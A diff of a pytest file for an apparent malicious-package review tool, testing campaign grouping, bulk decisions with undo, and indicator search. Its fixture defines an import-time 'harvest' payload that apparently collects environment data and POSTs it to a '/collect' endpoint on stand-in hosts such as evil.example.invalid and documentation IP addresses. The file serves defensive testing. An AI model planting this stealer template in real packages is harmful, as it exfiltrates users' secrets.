@@ -11,7 +11,7 @@ from app.core.campaigns import grouping as camp
 from app.core.decisions import Decision
 from app.core.store.db import Store
 
-PAYLOAD = '''import os, base64, urllib.request
+PAYLOAD = """import os, base64, urllib.request
 
 def _send(data):
     req = urllib.request.Request("https://{host}/collect", data=data)
@@ -26,11 +26,11 @@ def harvest():
             continue
 
 harvest()
-'''
+"""
 
-SETUP = '''from setuptools import setup
+SETUP = """from setuptools import setup
 setup(name="{name}", version="{version}", packages=["{pkg}"])
-'''
+"""
 
 
 def sdist(tmp_path, name, version, files):
@@ -46,20 +46,30 @@ def sdist(tmp_path, name, version, files):
 
 def malicious(tmp_path, name, version="1.0.0", host="203.0.113.9"):
     pkg = name.replace("-", "_")
-    return sdist(tmp_path, name, version, {
-        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
-        "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
-        f"{pkg}/__init__.py": PAYLOAD.format(host=host).replace("harvest", f"h_{pkg}"),
-    })
+    return sdist(
+        tmp_path,
+        name,
+        version,
+        {
+            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+            "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
+            f"{pkg}/__init__.py": PAYLOAD.format(host=host).replace("harvest", f"h_{pkg}"),
+        },
+    )
 
 
 def benign(tmp_path, name, version="2.0.0"):
     pkg = name.replace("-", "_")
-    return sdist(tmp_path, name, version, {
-        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
-        "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
-        f"{pkg}/__init__.py": "def add(a, b):\n    return a + b\n",
-    })
+    return sdist(
+        tmp_path,
+        name,
+        version,
+        {
+            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+            "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
+            f"{pkg}/__init__.py": "def add(a, b):\n    return a + b\n",
+        },
+    )
 
 
 @pytest.fixture
@@ -76,9 +86,15 @@ def queue(store, path, name, version):
 
 def test_renamed_copies_group_and_boilerplate_stays_apart(tmp_path, store):
     a = queue(store, malicious(tmp_path, "reqeusts-helper"), "reqeusts-helper", "1.0.0")
-    b = queue(store, malicious(tmp_path, "colorama-extra", "0.3", "evil.example.invalid"),
-              "colorama-extra", "0.3")
-    c = queue(store, malicious(tmp_path, "pyyaml-fast", "9.9.9", "198.51.100.4"), "pyyaml-fast", "9.9.9")
+    b = queue(
+        store,
+        malicious(tmp_path, "colorama-extra", "0.3", "evil.example.invalid"),
+        "colorama-extra",
+        "0.3",
+    )
+    c = queue(
+        store, malicious(tmp_path, "pyyaml-fast", "9.9.9", "198.51.100.4"), "pyyaml-fast", "9.9.9"
+    )
     plain = queue(store, benign(tmp_path, "tiny-math"), "tiny-math", "2.0.0")
     plain2 = queue(store, benign(tmp_path, "tiny-strings"), "tiny-strings", "2.0.0")
     assert camp.index_pending(store) == 5
@@ -108,12 +124,21 @@ def test_a_payload_in_a_second_release_file_still_groups(tmp_path, store):
 
 
 def test_bulk_decision_and_bulk_undo(tmp_path, store):
-    ids = [queue(store, malicious(tmp_path, f"pkg-copy{i}"), f"pkg-copy{i}", "1.0.0") for i in range(3)]
+    ids = [
+        queue(store, malicious(tmp_path, f"pkg-copy{i}"), f"pkg-copy{i}", "1.0.0") for i in range(3)
+    ]
     camp.index_pending(store)
     (campaign,) = camp.regroup(store)
     change, decided = camp.decide_campaign(
-        store, campaign.id, Decision(verdict="malicious", action="remove_project",
-                                     reason="same env stealer", reviewer="alice"))
+        store,
+        campaign.id,
+        Decision(
+            verdict="malicious",
+            action="remove_project",
+            reason="same env stealer",
+            reviewer="alice",
+        ),
+    )
     assert sorted(decided) == sorted(ids)
     for item_id in ids:
         current = store.current_decision(item_id)
@@ -130,7 +155,9 @@ def test_bulk_decision_and_bulk_undo(tmp_path, store):
 
 
 def test_new_arrival_matching_a_decided_campaign_is_marked_and_ranked_first(tmp_path, store):
-    first = [queue(store, malicious(tmp_path, f"old-copy{i}"), f"old-copy{i}", "1.0") for i in range(2)]
+    first = [
+        queue(store, malicious(tmp_path, f"old-copy{i}"), f"old-copy{i}", "1.0") for i in range(2)
+    ]
     camp.index_pending(store)
     (campaign,) = camp.regroup(store)
     camp.decide_campaign(store, campaign.id, Decision(verdict="malicious", reviewer="bob"))
@@ -150,8 +177,13 @@ def test_new_arrival_matching_a_decided_campaign_is_marked_and_ranked_first(tmp_
 def test_ioc_search_finds_items_by_domain_url_and_ip(tmp_path, store):
     a = queue(store, malicious(tmp_path, "one-pkg", host="c2.example.invalid"), "one-pkg", "1.0.0")
     queue(store, benign(tmp_path, "two-pkg"), "two-pkg", "2.0.0")
-    store.upsert_external_label("pypi", "three-pkg", "1.0", "carol",
-                                {"verdict": "malicious", "evidence": [{"match": "c2.example.invalid"}]})
+    store.upsert_external_label(
+        "pypi",
+        "three-pkg",
+        "1.0",
+        "carol",
+        {"verdict": "malicious", "evidence": [{"match": "c2.example.invalid"}]},
+    )
     camp.index_pending(store)
     by_domain = camp.search_iocs(store, "example.invalid")
     assert [i["id"] for i in by_domain["items"]] == [a]
@@ -171,8 +203,23 @@ def test_cli_campaigns_decide_and_ioc(tmp_path, capsys):
     assert doc["schema"] == "vetbench.campaigns/1"
     (campaign,) = doc["campaigns"]
     assert campaign["size"] == 2
-    assert main(["decide", "--campaign", str(campaign["id"]), "--verdict", "malicious",
-                 "--reviewer", "dana", "--yes", "--db", db]) == 0
+    assert (
+        main(
+            [
+                "decide",
+                "--campaign",
+                str(campaign["id"]),
+                "--verdict",
+                "malicious",
+                "--reviewer",
+                "dana",
+                "--yes",
+                "--db",
+                db,
+            ]
+        )
+        == 0
+    )
     out = capsys.readouterr().out
     assert "cli-copy0" in out and "cli-copy1" in out
     assert main(["ioc", "203.0.113.50", "--json", "--db", db]) == 0
